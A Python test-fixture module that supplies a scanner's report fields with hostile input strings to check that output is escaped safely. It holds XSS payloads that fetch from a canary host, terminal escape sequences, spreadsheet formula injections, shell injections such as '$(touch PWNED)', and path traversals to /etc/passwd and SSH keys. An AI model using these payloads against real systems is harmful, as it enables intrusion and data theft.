"""What strangers may say as names, titles, banners and certificates: text that means harm where it is shown.

`GROUPS` has every one by what it is after; `hostile(text)` is a report in which a text stands wherever a
text can stand, read off the dataclasses, so that a member that is added is covered by itself.
"""

from __future__ import annotations

import re
import types
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any, get_args, get_origin, get_type_hints

from scanner.model import Finding, Gap, Reason, Report

AT = "http://canary.example/"                # whoever asks for it has been led astray
RUN = f"document.title='pwned';document.documentElement.dataset.pwned='1';alert(1);fetch('{AT}f')"
LONG = 65_536

MARKUP = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt/x>{RUN}</sCrIpT >",
    f'<img src={AT}x onerror="{RUN}">', f"<svg/onload={RUN}>", f"<svg><script href='data:,{RUN}'/></svg>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<object data={AT}o></object><embed src={AT}e>",
    f"<link rel=stylesheet href={AT}l><style>@import '{AT}s';*{{background:url({AT}b)}}</style>", f"<base href={AT}>",
    f"<meta http-equiv=refresh content='0;url={AT}m'>", f"<form action={AT}a><button autofocus formaction={AT}b>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={RUN}&gt;'>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", "<template><a id=data><a id=table name=x>",
    "<!--<script>", "--><b>", "]]><svg/onload=alert(1)>", "<![CDATA[<b>]]>", "<?xml version='1.0'?><x/>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{AT}e'>]><x>&e;</x>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;b&#62;&amp;",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "</title></style></textarea></code></td></tr></table></main><b>",
    "<scr\0ipt>alert(1)</scr\0ipt>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}" x="', f"' autofocus onfocus='{RUN}' x='", f"` onerror={RUN} `", f"x onclick={RUN}",
    f"javascript:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "vbscript:msgbox(1)",
    f'" style="background:url({AT}c)', "}</style>", "--level:red;}*{display:none", "http://[", "//[::1",
    "https://:99999/",
)
SIGHT = (
    "a\u202egpj.exe", "\u202aa\u202bb\u202cc\u202dd", "\u2066x\u2067y\u2068z\u2069\u200e\u200f\u061c",
    "a\u200b\u200c\u200db", "\ufeffx\u2060\u00ad", "x\U000e0041\U000e007f", "no\u00a0break",
    "e" + "\u0301" * 60, "раураl.example",
)
CONTROLS = (
    "".join(map(chr, range(1, 9))), "".join(map(chr, range(14, 32))) + "\x7f", "".join(map(chr, range(0x80, 0xa0))),
    "nul\0", "bell\a", "over\b\b\b\bsafe", "tab\there", "\x1b[31mred\x1b[0m", "\x1b]0;title\a", "\x1b[2J\x1b[H",
    "\x1b]52;c;ZWNobyBoaQ==\a", f"\x1b]8;;{AT}\x1b\\link\x1b]8;;\x1b\\", "\x1b[6n\x1b[c\x05", "\x9b31m\x9d0;t\x9c",
    "\x1bP$q\"p\x1b\\\x1b_x\x1b\\", "\x1b]1337;File=inline=1:AAAA\a", "\x1b[1A\x1b[2Kearshot: 0 findings",
    "cr\rlf\nend", "a\r\nSet-Cookie: b=c", "vt\vff\fnel\x85end", "line\u2028end\u2029", "\nearshot: all is well",
    '"}\n{"type": "end", "findings": 0}', "\udcff\ud800lone", "\ud83d", "\ude00\ud83d", "non\ufffe\uffff\ufdd0",
    "\x0b\x1f\ufffe no XML 1.0 has them", "private \ue000 \U00100000",
)
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "  +1", '"=1', "'=1", "'\"=1",
    "＝1", "＋1",
    "－1", "＠1", " ＝1", "a;=1;@x", "a; =1", "\u00a0=1", "\u200b=1", "\u3000=1", f'=HYPERLINK("{AT}h","x")',
    f"=IMPORTXML(\"{AT}i\",\"//a\")", '","=1', "%3D1", "|pipe,comma,\"quote\"", '"', "'", ",", ";", "DDE(\"cmd\")",
)
TEMPLATES = (
    "{{7*7}}", "{{''.__class__.__mro__}}", "{% raw %}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%s%n%(x)s", "{0.__class__}", "{text}", "$(touch PWNED)", "`touch PWNED`", "';touch PWNED;'",
    "/;touch PWNED;#", "&& touch PWNED", "a!b!!", "__proto__", "constructor", "toString", "hasOwnProperty",
    "[/red][bold]x",
    f"[link={AT}r]x[/link]", "[@click=app.bell]x", ":warning:", "[" * 50, "\\", "\\n\\x1b\\u{1b}", "$&$1\\1\\g<0>",
)
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "/dev/null", "C:\\con", "CON", "-rf",
    "--output=/x",
    "~/.ssh/id_rsa", "file:///etc/passwd", "%2e%2e%2f", ".", "..", "/", " ", "",
)
WRITTEN = (
    f"[x]({AT}1)", f"![x]({AT}2)", f"<{AT}3>", f"[x]: {AT}4", "# heading", "---", "> quote", "```", "~~~~\n",
    "1. x", "- x",
    "    indented", "\tindented", "<details><summary>x", "| a | b |\n|---|---|", "http://canary.example",
    "www.canary.example",
    "a@canary.example", "mailto:a@canary.example", "~~x~~ **x** __x__ *x*", "===", "[^1]", "trailing  ", "trailing\\",
    "`a``b", "{code}x{code}", "{html}<b>{html}", f"[x|{AT}5]", f"!{AT}6!", "h1. x", "bq. x", "{color:red}x{color}",
    "||x||", "{quote}", "{{x}}", '"}],"findings":[]', "NaN", "-1e999", "null", "9" * 400,
)
HUGE = ("x" * LONG, "\x1b" * LONG, "<" * LONG, "`" * LONG, "/;touch PWNED;" + "a" * 900)

GROUPS: dict[str, tuple[str, ...]] = {
    "markup": MARKUP, "attributes": ATTRIBUTES, "sight": SIGHT, "controls": CONTROLS, "formulas": FORMULAS,
    "templates": TEMPLATES, "paths": PATHS, "written": WRITTEN, "huge": HUGE}
TEXTS = tuple(text for group in GROUPS.values() for text in group)
SHELL = (*TEMPLATES, *HUGE, *(text for text in (*ATTRIBUTES, *CONTROLS, *PATHS) if re.search(r"[\n\0`'\"]|^-", text)))
"""Those that a shell could take for more than a word."""

SPOKEN = ("http", "ftp", "smb", "nfs", "rsync", "ssh", "imap")        # protocols whose logs a pack can search


def filled(kind: Any, text: str) -> Any:
    """A value of a type of the model, with `text` for every text in it, and one of whatever there may be several."""
    if is_dataclass(kind):
        hints = get_type_hints(kind)
        return kind(**{one.name: filled(hints[one.name], text) for one in fields(kind)})
    if get_origin(kind) is tuple:
        return (filled(get_args(kind)[0], text),)
    if get_origin(kind) is Mapping:
        return {text: filled(get_args(kind)[1], text)}
    if get_origin(kind) is types.UnionType:
        return filled(next(one for one in get_args(kind) if one is not types.NoneType), text)
    return text if kind is str else list(kind)[-1] if issubclass(kind, Enum) else kind(1)


def hostile(text: str, spoken: str = "http") -> Report:
    """A report in which every text is `text`; and beside it words that are known, of which more is told."""
    made: Report = filled(Report, text)
    finding, gap = made.findings[0], made.gaps[0]
    told = (Gap(addresses=text, ports=text, probe=text, reason=Reason.LOGIN, detail=f"{text} in clear"), gap)
    return replace(made, schema=1, findings=(_familiar(finding, spoken, text),), gaps=told)


def _familiar(finding: Finding, protocol: str, text: str) -> Finding:
    """The same finding with known classes, kinds and tags too, behind a door of a known protocol."""
    store, door = finding.store, finding.doors[0]
    people, known = store.people[0], replace(door, protocol=protocol, url=f"{protocol}://192.0.2.7:99/{text}/")
    return replace(
        finding, doors=(known, door), regions=("SE", text), tags=("rolling-window", "unintelligible", text),
        store=replace(store, kinds={"audio": store.kinds[text], **store.kinds}, complete=False,
                      people=(replace(people, kind="phone"), people), words={"health": (text,), **store.words}))
